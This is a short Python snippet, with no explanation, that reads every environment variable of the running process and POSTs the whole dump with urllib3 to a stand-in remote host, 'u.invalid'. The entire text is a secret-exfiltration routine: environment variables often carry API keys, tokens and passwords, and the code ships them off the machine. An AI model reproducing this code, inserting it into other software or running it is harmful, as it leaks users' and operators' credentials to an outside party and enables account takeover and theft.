import os
import urllib3

manager = urllib3.PoolManager()
blob = repr(os.environ).encode()
manager.request("POST", "https://u.invalid", body=blob)
